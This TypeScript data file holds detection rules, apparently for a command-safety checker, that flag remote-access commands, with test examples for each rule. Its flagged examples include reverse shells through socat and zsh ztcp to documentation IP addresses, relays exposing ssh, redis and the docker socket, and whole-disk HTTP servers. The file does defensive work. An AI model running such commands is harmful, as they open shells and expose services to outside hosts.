/**
 * Data for remote access (a way into this machine for another one): reverse shells, relays that publish
 * an internal service on every interface, tunnels kept open, file servers of the whole disk, terminals
 * shown on a remote display. Rows in the `RULES` format (appended by ../rules.ts), with the examples the
 * test suite runs, and the tables ../fetch_exec.ts reads. Data, not code.
 */
import type { Rule } from "./types.js";

/** Ports of services that must not be relayed onto every interface (ssh, databases, caches, docker). */
const SERVICE_PORTS = "22|23|1433|1521|2375|2376|3306|5432|5984|6379|9042|9200|11211|27017";

export const ACCESS_RULES: Rule[] = [
  {
    program: ["ssh-copy-id"],
    // a key installed into an account of another host: a standing login there (`-n` only shows the keys)
    unless: /(^|\s)(-n|-h|-\?)(\s|$)/,
    effect: "remote",
    key: "privilege_grant",
    flag: ["ssh-copy-id root@db1.internal", "ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@prod-web-01"],
    pass: ["ssh-copy-id -n root@db1.internal"],
  },
  {
    program: ["tailscale"],
    // this machine published on the internet, or a whole subnet routed to the tailnet through it
    args: /(^|\s)funnel\s+(?!(status|reset|off)(\s|$))|--advertise-routes[= ]\S/,
    effect: "system",
    key: "remote_access",
    flag: ["tailscale funnel 3000", "sudo tailscale up --advertise-routes=10.0.0.0/24"],
    pass: ["tailscale funnel status", "tailscale status"],
  },
  {
    program: ["systemsetup"],
    args: /-setremotelogin\s+on|-setremoteappleevents\s+on/i,
    effect: "system",
    key: "remote_access",
    flag: ["sudo systemsetup -setremotelogin on"],
    pass: ["sudo systemsetup -getremotelogin"],
  },
  {
    program: ["exportfs"],
    // a folder shared with every host
    args: /(^|\s)['"]?\*:\//,
    effect: "system",
    key: "remote_access",
    flag: ["exportfs -o rw,insecure '*:/home'"],
    pass: ["exportfs -v"],
  },
  {
    program: ["socat"],
    // a shell (or any program) on the far end of a connection, in either case (`EXEC:'bash -li'`)
    args: /(^|[\s,!])(exec|system):/i,
    effect: "execute",
    key: "remote_access",
    flag: ["socat TCP:198.51.100.7:8443 EXEC:'bash -li',pty,stderr,setsid", "socat tcp-l:9001 SYSTEM:sh"],
    pass: ["printf 'PING\\r\\n' | socat - TCP:127.0.0.1:6379"],
  },
  {
    program: ["socat"],
    // a listener on every interface relaying to another host, or to a service of this one
    args: new RegExp(
      `^(?=.*(^|\\s)(tcp|udp|openssl)[46]?-l(isten)?:\\d+(?!\\S*bind=(127\\.|localhost|\\[?::1)))(?=.*\\s((tcp|udp|openssl)[46]?:((?!localhost|127\\.|\\[?::1)[^:\\s]+:\\d+|[^:\\s]+:(${SERVICE_PORTS})(,|\\s|$))|unix-connect:\\S*docker\\.sock))`,
      "i",
    ),
    effect: "execute",
    key: "remote_access",
    flag: [
      "socat TCP-LISTEN:2222,fork,reuseaddr TCP:127.0.0.1:22",
      "socat TCP4-LISTEN:6380,fork TCP:redis.prod.internal:6379",
      "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
    ],
    pass: [
      "socat TCP-LISTEN:8080,fork TCP:localhost:3000",
      "socat TCP-LISTEN:8081,bind=127.0.0.1,fork TCP:127.0.0.1:5432",
    ],
  },
  {
    program: ["ssh", "autossh"],
    // a forward opened to every interface (`-g`, `-L 0.0.0.0:…`, `-D *:…`)
    args: /^(?=.*(^|\s)-[a-zA-Z]*g[a-zA-Z]*(\s|$))(?=.*(^|\s)-[a-zA-Z]*[LD])|(^|\s)-[a-zA-Z]*[LD]\s*(0\.0\.0\.0|\*|\[::\]):\d+/,
    effect: "execute",
    key: "remote_access",
    flag: ["ssh -g -L 8443:internal-admin:443 jump", "ssh -N -L 0.0.0.0:5432:db.prod.internal:5432 bastion"],
    pass: ["ssh -N -L 127.0.0.1:5433:db.internal:5432 bastion", "ssh -G bastion"],
  },
  {
    program: ["autossh"],
    // a tunnel or proxy that restarts itself: kept open after the task
    args: /(^|\s)-[a-zA-Z]*[DR]/,
    effect: "execute",
    key: "remote_access",
    flag: ["autossh -M 0 -N -D 1080 jump.example.net"],
    pass: ["autossh -M 0 -N -L 5432:localhost:5432 bastion"],
  },
  {
    program: ["ztcp"],
    // zsh's TCP module: a connection a shell's input and output are then put on
    unless: /(^|\s)-[a-zA-Z]*[cLl]/,
    effect: "execute",
    key: "remote_access",
    flag: ["zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"],
    pass: ["ztcp -c"],
  },
  {
    program: ["rclone"],
    verbs: [["serve"]],
    // the whole disk, the home directory or system directories served
    args: /^serve\s+\S+\s+(\/|~\/?|\$HOME|\/(etc|root|home|var|usr|opt|srv|boot)(\/\S*)?)(\s|$)/,
    effect: "execute",
    key: "remote_access",
    flag: ["rclone serve webdav / --addr :8080", "rclone serve http /etc --addr 0.0.0.0:8080"],
    pass: ["rclone serve http ./site --addr 127.0.0.1:8080"],
  },
  {
    program: ["xterm", "urxvt", "rxvt", "xfce4-terminal", "gnome-terminal", "konsole", "kitty"],
    // a terminal shown on another machine's X display
    args: /(^|\s)--?display[= ](?!(:|localhost:|127\.|unix:))\S+:\d/,
    effect: "execute",
    key: "remote_access",
    flag: ["xterm -display 203.0.113.7:1"],
    pass: ["xterm -display :0"],
  },
];

/** Terminals that show a shell on the X display `DISPLAY` names. */
export const X_TERMINALS = /^(xterm|urxvt|rxvt|xfce4-terminal|gnome-terminal|konsole|kitty|alacritty|st)$/;

/** File servers: how a program is asked to serve, and the options naming the directory served (default: here). */
export const FILE_SERVERS: Record<string, { serves: RegExp; dir: string[]; local: RegExp }> = Object.assign(
  Object.create(null),
  {
    python: {
      serves: /(^|\s)-m\s+(http\.server|SimpleHTTPServer)(\s|$)/,
      dir: ["--directory", "-d"],
      local: /(^|\s)(--bind|-b)[= ](127\.|localhost|::1)/,
    },
    php: { serves: /(^|\s)-S\s/, dir: ["-t"], local: /(^|\s)-S\s+(127\.|localhost|\[::1\])/ },
  },
);

export const ACCESS_EXAMPLES = {
  flag: [
    "cd ~ && python3 -m http.server 8080",
    "cd / && sudo python3 -m http.server 80",
    "DISPLAY=198.51.100.7:0 xterm",
  ],
  pass: [
    "python3 -m http.server 8000",
    "cd ~ && python3 -m http.server 8000 --bind 127.0.0.1",
    "DISPLAY=:0 xterm",
    "python3 -m http.server 8000 --directory ./site",
  ],
};
